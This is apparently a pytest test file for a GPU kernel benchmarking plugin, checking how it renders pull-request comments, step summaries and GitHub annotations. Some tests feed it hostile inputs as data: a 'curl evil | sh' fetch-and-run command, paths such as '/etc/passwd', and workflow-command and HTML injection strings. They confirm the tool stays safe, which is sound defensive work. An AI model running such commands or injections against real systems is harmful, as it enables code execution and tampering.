"""What a comment, a summary and annotations say, and that they fit where they go."""

from __future__ import annotations

import re
from pathlib import Path

import figures
import msgspec
import pytest
from comment_states import DEVICE, HEAD, LINKS, SLOWER, STATES, case, compared, run, text_of
from github_markdown import problems_of, tables_of

from pytest_kernelperf.cli import main
from pytest_kernelperf.model import (
    BaselineEdit,
    Blame,
    CaseId,
    Creep,
    CreepStep,
    LaunchStep,
    ParentCase,
    Plan,
    Proposal,
    Record,
    Run,
    Verdict,
)
from pytest_kernelperf.report.annotation import MOST, render_annotations
from pytest_kernelperf.report.comment import MOST_CHARACTERS, Links, render_comment
from pytest_kernelperf.report.room import Part, characters, fitted, octets
from pytest_kernelperf.report.run_file import write_run


def many(count: int = 2_000) -> tuple[Record, ...]:
    """Cases with long names, each slower by another amount, in no order."""
    long = "a_kernel_with_a_name_that_goes_on_" * 6
    return tuple(
        msgspec.structs.replace(
            SLOWER,
            case=CaseId(f"{long}{place % 7}", f"{'|' * 40}{place}", 1),
            comparisons=(compared(1.02 + (place * 7919 % count) / count, 2.21),),
            trace=None,
        )
        for place in range(count)
    )


@pytest.mark.parametrize("state", STATES)
def test_nothing_but_our_own_markdown_is_in_any_state(state: str) -> None:
    """The golden texts are read by GitHub's renderer too."""
    assert problems_of(text_of(state)) == []


class TestRoom:
    """What does not fit gives way from the bottom, and is counted."""

    def test_two_thousand_cases_with_long_names_fit_worst_first(self) -> None:
        """The counts are all cases'; the rows are the worst; the rest is counted."""
        text = render_comment(msgspec.structs.replace(run(), records=many()), LINKS)
        assert MOST_CHARACTERS * 0.9 < characters(text) <= MOST_CHARACTERS
        assert text.startswith("❌ **Slows 2,000 of 2,000**")
        changes = [float(change) for change in re.findall(r"\| \+([\d.]+)\u00a0% \(", text)]
        assert changes == sorted(changes, reverse=True)
        assert changes[0] == pytest.approx(101.9, abs=0.2)
        left = int(re.search(r"… ([\d,]+) more cases left out here", text)[1].replace(",", ""))  # type: ignore[index]
        assert len(changes) + left == 2_000
        assert [len(rows) for rows in tables_of(text)] == [len(changes) + 1]
        assert problems_of(text) == []

    def test_a_summary_has_room_for_them_all(self) -> None:
        """A MiB, counted in bytes."""
        text = render_comment(msgspec.structs.replace(run(), records=many()), LINKS, 1 << 20, octets)
        assert octets(text) <= 1 << 20
        assert len(tables_of(text)[0]) == 2_001

    @pytest.mark.parametrize("most", [4_000, 6_000, 9_000, 20_000])
    def test_it_stays_whole_however_little_room_there_is(self, most: int) -> None:
        """Tables, lists and what can be unfolded are closed wherever they are cut."""
        text = render_comment(msgspec.structs.replace(run(), records=(*many(60), *run().records)), LINKS, most)
        assert characters(text) <= most
        assert problems_of(text) == []
        assert "the run](https" in text

    def test_the_less_important_part_gives_way(self) -> None:
        """Whatever stands first."""
        parts = (Part("minor", ("x" * 50,) * 9, weight=2), Part("major", ("y" * 50,) * 9, weight=1))
        text = fitted(parts, 900, characters)
        assert text.count("y" * 50) == 9
        assert text.count("x" * 50) == ((900 - 9 * 51 - 400) // 51)
        assert "more lines left out here" in text

    def test_an_emoji_counts_as_two(self) -> None:
        """As it does for JavaScript; a letter with an accent does not."""
        assert (characters("é🚨"), octets("é🚨")) == (3, 6)


class TestWhatItSays:
    """One fact each; the texts as a whole are golden."""

    def test_the_worst_case_is_in_the_first_line(self) -> None:
        """Wrong comes before slow, and slower before slow."""
        slow = msgspec.structs.replace(SLOWER, case=CaseId("moe_add_inject", "slow", 1))
        slower = msgspec.structs.replace(
            slow, case=CaseId("moe_add_inject", "slower", 1), comparisons=(compared(1.4, 2.0),)
        )
        assert "slower at 1 token" in render_comment(run(slow, slower), LINKS).splitlines()[0]
        wrong = case("wrong", 1, Verdict.WRONG, fails=True)
        assert render_comment(run(slow, wrong, slower), LINKS).startswith("❌ **Breaks 1 of 9**: wrong at 1 token")

    def test_a_command_to_type_is_never_the_run_files(self) -> None:
        """A stranger's run file could name any program as its guard."""
        moved = STATES["machine_moved"]
        assert isinstance(moved, Run)
        found = msgspec.structs.replace(run(SLOWER), settings={"command": "curl evil | sh"}, drift=moved.drift)
        shown, _, environment = render_comment(found, LINKS).partition("<details>")
        assert "pytest --kernelperf --extend-baselines" in shown
        assert "curl" not in shown
        assert "pytest --kernelperf kernels" in shown
        assert "curl evil" in environment

    def test_only_what_may_be_accepted_says_how(self) -> None:
        """And only where the commit is known."""
        assert f"--add-label slow-ok:{HEAD}" in text_of("regressed")
        assert "slow-ok" not in text_of("starved")
        assert "slow-ok" not in render_comment(msgspec.structs.replace(run(SLOWER), commit=""), Links())

    def test_another_commits_result_says_so(self) -> None:
        """The caller knows the commit; the run file only says one."""
        found = msgspec.structs.replace(run(SLOWER), commit="b" * 40)
        assert "not this commit" in render_comment(found, LINKS)

    def test_an_untimed_run_is_not_called_new(self) -> None:
        """The hosted job compares nothing, for everybody."""
        assert "New" not in text_of("hosted")
        assert "baseline" not in text_of("hosted")

    def test_long_names_that_differ_at_their_ends_stay_apart(self) -> None:
        """As a template's instances do: the middle is left out."""
        ends = [f"gemm<{'float, ' * 60}{tile}>" for tile in (16, 32)]
        records = [msgspec.structs.replace(SLOWER, case=CaseId("moe_add_inject", end, 1)) for end in ends]
        text = render_comment(run(*records), LINKS)
        assert ", 16&gt; at 1 token" in text.splitlines()[0]
        assert [text.count(f", {tile}&gt; | 1 |") for tile in (16, 32)] == [1, 1]

    def test_a_sentence_that_the_first_line_has_is_not_said_again(self) -> None:
        """A longer one is, since the first line is cut; and so is what else there is to know of the case."""
        for length, parent, count in ((200, None, 1), (500, None, 2), (200, ParentCase("unplayable", "gone"), 2)):
            sentence = f"values differ {'w' * length}"
            wrong = case("a", 1, Verdict.WRONG, reason=sentence, fails=True, parent=parent)
            assert render_comment(run(wrong), LINKS).count("values differ") == count

    def test_steps_add_up_only_where_some_were_accepted_before(self) -> None:
        """A change that is the only step is told by its own row."""
        own, before = CreepStep("", "", 1.08), CreepStep("2026-02-01", "rounding", 1.04)
        for steps, said in (
            ((own,), None),
            ((before, own), "in 1 accepted step and this change, where 5 % are allowed"),
            ((before, before), "in 2 accepted steps, where 5 % are allowed"),
        ):
            creep = Creep("2026-01-05", 1.08, 1.05, steps)
            text = render_comment(run(msgspec.structs.replace(SLOWER, creep=creep)), LINKS)
            assert ("Accepted steps add up" in text) == (said is not None)
            assert said is None or f"8 % slower since 2026-01-05, {said}" in text

    def test_a_time_that_is_not_known_is_not_shown(self) -> None:
        """A new case's baseline has none before, a removed one's none after."""
        edits = (
            BaselineEdit(SLOWER.case, "added", "b.json", None, 2.4),
            BaselineEdit(SLOWER.case, "removed", "b.json"),
        )
        blame = Blame(HEAD, proposals=(Proposal(SLOWER.case, "new", None, 2.3),), edits=edits)
        text = render_comment(run(blame=blame), LINKS)
        assert "at 1 token added in b.json, 2.40 us\n" in text
        assert "at 1 token removed in b.json\n" in text
        assert "at 1 token (new): 2.30 us\n" in text

    def test_a_fact_is_told_once_and_a_setting_where_it_is_set(self) -> None:
        """The device's own facts are among those of the environment."""
        facts = {"compiler": DEVICE.compiler, "hip_version": DEVICE.hip_version, "governor": "performance"}
        found = msgspec.structs.replace(run(), environment=facts, settings={"blocks": "None", "mode": "graph"})
        lines = [line for line in render_comment(found, LINKS).splitlines() if line.startswith("- ")]
        assert [line for line in lines if str(DEVICE.compiler) in line] == [f"- compiler: {DEVICE.compiler}"]
        assert [line for line in lines if str(DEVICE.hip_version) in line] == [f"- HIP: {DEVICE.hip_version}"]
        assert "- governor: performance" in lines
        assert [line for line in lines if line.startswith("- setting")] == ["- setting mode: graph"]

    def test_played_times_are_said_to_be(self) -> None:
        """Else a script that was left in a job's variables would pass for a measurement."""
        text = render_comment(run(SLOWER, scripted_clock=True), LINKS)
        assert "**Nothing was timed**" in text.partition("<details>")[0]
        assert "Nothing was timed" not in text_of("regressed")


class TestAnnotations:
    """At the kernel's line, ten of a kind."""

    @staticmethod
    def project(folder: Path) -> Path:
        """A project below its workspace, with the kernel on the fourth line."""
        source = folder / "project" / SLOWER.source
        source.parent.mkdir(parents=True)
        source.write_text(
            '#include "x.h"\n// fused_column_tiles(\n\n__global__ void fused_column_tiles(float *x)\n{}\n'
        )
        return folder / "project"

    def test_it_points_at_the_kernels_line(self, tmp_path: Path) -> None:
        """Relative to the workspace; the sentence and what was found of it."""
        record = msgspec.structs.replace(SLOWER, plan=Plan((LaunchStep("fused_column_tiles", (1, 1, 1), (1, 1, 1)),)))
        line = render_annotations(run(record), self.project(tmp_path), tmp_path).splitlines()[0]
        assert line.startswith(f"::error file=project/{SLOWER.source},line=4,title=regressed%3A moe_add_inject ")
        assert "2.3 %25 slower" in line
        assert "VGPRs 32 → 64" in line

    @pytest.mark.parametrize("source", ["../outside.hip", "/etc/passwd", "", "kernels", "a\x00b"])
    def test_it_points_at_no_file_that_is_not_the_projects(self, tmp_path: Path, source: str) -> None:
        """Whatever the run file says."""
        (tmp_path / "outside.hip").write_text("void fused_column_tiles(")
        record = msgspec.structs.replace(SLOWER, source=source)
        assert "file=" not in render_annotations(run(record), self.project(tmp_path), tmp_path)

    def test_ten_at_most_and_the_rest_counted(self, tmp_path: Path) -> None:
        """GitHub drops the eleventh without a word."""
        lines = render_annotations(msgspec.structs.replace(run(), records=many(200)), tmp_path, tmp_path).splitlines()
        assert len(lines) == MOST
        assert "191 more" in lines[-1]

    def test_a_name_is_no_command(self, tmp_path: Path) -> None:
        """Line breaks, colons, commas and percent signs are as the runner wants them."""
        hostile = msgspec.structs.replace(SLOWER, case=CaseId("a\n::error::x", "b,line=1%0A", 1))
        text = render_annotations(run(hostile), tmp_path, tmp_path)
        assert len(text.splitlines()) == 1
        assert "title=regressed%3A a %3A%3Aerror%3A%3Ax b%2Cline=1%250A at 1 token::" in text


class TestCommands:
    """``kernelperf summary`` and ``kernelperf annotations``."""

    @staticmethod
    def call(*arguments: str) -> int:
        """The command's exit code."""
        with pytest.raises(SystemExit) as ended:
            main(list(arguments))
        return int(ended.value.code or 0)

    @pytest.fixture
    def run_file(self, tmp_path: Path) -> Path:
        """A run with a slower case."""
        found = STATES["regressed"]
        assert isinstance(found, Run)
        write_run(tmp_path / "run.json", found)
        return tmp_path / "run.json"

    def test_the_summary_is_added_to_what_is_there(
        self, run_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """And takes the room that is left, which may be none."""
        summary = tmp_path / "summary.md"
        summary.write_text("before\n")
        monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
        assert self.call("summary", str(run_file)) == 0
        assert summary.read_text("utf-8").startswith("before\n❌ **Slows 1 of 7**")
        summary.write_text("x" * ((1 << 20) - 10))
        assert self.call("summary", str(run_file)) == 0
        assert summary.stat().st_size == (1 << 20) - 10

    def test_the_summary_shows_pictures_in_blocks_of_code(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """The kernel's curve and the failing cases' blocks, whatever those are called; the comment has none."""
        monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
        hostile = CaseId("```\n# @everyone", "</code><img src=x>|`", 512)
        slow = [
            figures.compared(msgspec.structs.replace(hostile, tokens=n), figures.measured(2.0, 1.1)) for n in (1, 7)
        ]
        write_run(tmp_path / "run.json", figures.run_of(slow))
        assert self.call("summary", str(tmp_path / "run.json")) == 0
        text = capsys.readouterr().out
        assert problems_of(text) == []
        assert len(re.findall(r"^`{4}text$", text, re.MULTILINE)) == 3
        assert text.count("└ process") == 2
        assert self.call("comment", "--dry-run", str(tmp_path / "run.json")) == 0
        assert "┤" not in capsys.readouterr().out

    def test_pictures_give_way_where_a_summary_is_nearly_full(self) -> None:
        """And are counted."""
        found, pictures = figures.run_of([SLOWER]), [f"picture {number}\n{'x' * 900}" for number in range(3)]
        everything = render_comment(found, LINKS, 1 << 20, octets, pictures)
        text = render_comment(found, LINKS, octets(everything) - 500, octets, pictures)
        assert [f"picture {number}" in text for number in range(3)] == [True, True, False]
        assert "… 1 more picture left out here." in text
        assert octets(text) <= octets(everything) - 500

    def test_a_broken_run_file_is_said_in_the_summary_too(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """One sentence, and exit code 2."""
        monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
        (tmp_path / "run.json").write_text("{")
        assert self.call("summary", str(tmp_path / "run.json")) == 2
        assert "No result" in (tmp_path / "summary.md").read_text("utf-8")
        assert self.call("annotations", str(tmp_path / "run.json")) == 2
        assert len(capsys.readouterr().err.splitlines()) == 2

    def test_annotations_are_printed(self, run_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """One error for the one case that fails."""
        assert self.call("annotations", str(run_file)) == 0
        assert [line[:8] for line in capsys.readouterr().out.splitlines()] == ["::error "]

    def test_what_would_be_posted_is_printed(
        self, run_file: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """With the hidden line that it is found again by, and a banner where asked for."""
        for name in ("GITHUB_REPOSITORY", "GITHUB_SERVER_URL", "GITHUB_RUN_ID"):
            monkeypatch.delenv(name, raising=False)
        assert self.call("comment", "--dry-run", str(run_file)) == 0
        shown = capsys.readouterr().out
        assert shown.startswith("<!-- kernelperf comment")
        assert "\n❌ **Slows 1 of 7**" in shown
        assert self.call("comment", "--dry-run", "--state", "superseded", str(run_file)) == 0
        assert "**Superseded**" in capsys.readouterr().out

    @pytest.mark.parametrize("state", [state for state, found in STATES.items() if isinstance(found, Run)])
    def test_every_state_is_printed_from_its_run_file(
        self, state: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """What is posted is what a file can hold; only the links are not known here."""
        for name in ("GITHUB_REPOSITORY", "GITHUB_SERVER_URL", "GITHUB_RUN_ID"):
            monkeypatch.delenv(name, raising=False)
        found = STATES[state]
        assert isinstance(found, Run)
        write_run(tmp_path / "run.json", found)
        assert self.call("comment", "--dry-run", str(tmp_path / "run.json")) == 0
        _, _, shown = capsys.readouterr().out.partition("<!-- kernelperf result -->\n")
        assert (
            shown.partition("<sub>")[0].replace("gh pr edit ", "gh pr edit 42 ") == text_of(state).partition("<sub>")[0]
        )
